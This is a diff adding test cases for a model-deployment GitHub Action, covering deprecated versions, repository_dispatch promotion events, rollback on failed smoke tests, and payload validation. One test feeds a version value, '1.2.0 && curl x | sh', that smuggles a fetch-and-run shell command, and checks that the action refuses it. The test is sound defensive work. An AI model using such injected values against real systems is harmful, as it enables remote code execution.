@@ -456,3 +456,65 @@ async function startHoldingProxy(
   proxy.close = () => new Promise((resolve) => server.close(() => resolve()));
   return proxy;
 }
+
+describe('the deploy action on a deprecated version', () => {
+  it('deploys it, warning with the reason, and moves the alias all the same', async () => {
+    await store.deprecate({ name: 'iris', version: '1.2.0', reason: 'slow on long inputs' });
+    const run = await deploy({ version: '1.2.0', alias: 'production' });
+    expect(run.exitCode, run.stdout + run.stderr).toBe(0);
+    expect(run.annotations).toContainEqual(
+      expect.objectContaining({ level: 'warning', message: expect.stringContaining('slow on long inputs') }),
+    );
+    expect((await history()).at(-1)).toMatchObject({ version: '1.2.0' });
+  });
+});
+
+describe('the deploy action on a model-promoted repository_dispatch', () => {
+  /** The event `dispatch` sends, with the payload a sender chose: anyone with write access can send one. */
+  const promoted = (clientPayload: Record<string, unknown>): GitHubEvent<object> => ({
+    name: 'repository_dispatch',
+    payload: { action: 'model-promoted', branch: 'main', client_payload: clientPayload },
+  });
+
+  it("ships the payload's version and, with dispatch, announces its own move of the alias once live", async () => {
+    const run = await deploy(
+      { alias: 'production', dispatch: 'true' },
+      { event: promoted({ name: 'iris', version: '1.2.0', alias: 'candidate', previous: null }) },
+    );
+    expect(run.exitCode, run.stdout + run.stderr).toBe(0);
+    expect(run.outputs).toMatchObject({ version: '1.2.0', 'previous-version': '1.0.0', result: 'deployed' });
+    expect((await history()).at(-1)).toMatchObject({ version: '1.2.0', previous: '1.0.0' });
+    expect(double.state.repositoryDispatches(OWNER, REPO)).toEqual([
+      {
+        event_type: 'model-promoted',
+        client_payload: { name: 'iris', version: '1.2.0', alias: 'production', previous: '1.0.0' },
+      },
+    ]);
+  });
+
+  it('announces nothing when the deploy fails and the alias is put back', async () => {
+    const run = await deploy(
+      { version: '1.1.0', alias: 'production', dispatch: 'true', 'smoke-test': 'exit 3' },
+      {},
+    );
+    expect(run.outputs.result).toBe('failed');
+    expect((await history()).at(-1)).toMatchObject({ version: '1.0.0' });
+    expect(double.state.repositoryDispatches(OWNER, REPO)).toEqual([]);
+  });
+
+  it.each([
+    ['another model', { name: 'churn', version: '1.2.0', alias: 'candidate' }, 'for model churn, not iris'],
+    [
+      'a version that is a command',
+      { name: 'iris', version: '1.2.0 && curl x | sh', alias: 'candidate' },
+      'Invalid version',
+    ],
+    ['no version', { name: 'iris', alias: 'candidate' }, 'no text `version`'],
+  ])('refuses a payload for %s before anything changes', async (_what, clientPayload, message) => {
+    const run = await deploy({ alias: 'production' }, { event: promoted(clientPayload) });
+    expect(run.exitCode).toBe(1);
+    expect(run.annotations.find((a) => a.level === 'error')?.message).toContain(message);
+    expect(deployments()).toEqual([]);
+    expect((await history()).map((e) => e.version)).toEqual(['1.0.0']);
+  });
+});
